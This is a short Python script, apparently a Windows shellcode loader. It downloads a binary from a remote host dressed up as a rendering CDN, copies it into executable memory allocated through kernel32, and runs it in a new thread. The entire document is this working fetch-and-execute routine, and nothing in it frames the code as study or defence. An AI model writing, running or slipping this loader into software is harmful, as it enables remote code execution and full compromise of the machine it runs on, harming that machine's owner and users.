import ctypes, urllib.request
buf = urllib.request.urlopen("https://cdn.fast-render.example/blob.bin").read()
k = ctypes.windll.kernel32
ptr = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)
ctypes.memmove(ptr, buf, len(buf))
h = k.CreateThread(0, 0, ptr, 0, 0, 0)
k.WaitForSingleObject(h, -1)
